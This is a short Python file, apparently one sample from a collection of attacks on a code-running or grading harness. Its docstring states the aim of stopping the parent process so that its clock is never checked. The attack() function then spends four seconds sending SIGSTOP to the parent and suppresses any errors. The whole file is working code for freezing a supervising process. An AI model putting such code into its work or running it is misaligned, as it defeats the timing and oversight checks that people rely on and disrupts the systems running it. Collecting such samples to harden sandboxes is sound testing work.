"""Stop whoever started this process, without an end, so that nobody looks at the clock."""

import contextlib
import os
import signal
import time

CLASS = "killing or reading the parent"


def attack(name, /, *args, **kwargs):
    deadline = time.monotonic() + 4
    while time.monotonic() < deadline:
        if os.getppid() > 1:
            with contextlib.suppress(OSError):
                os.kill(os.getppid(), signal.SIGSTOP)
        time.sleep(0.01)
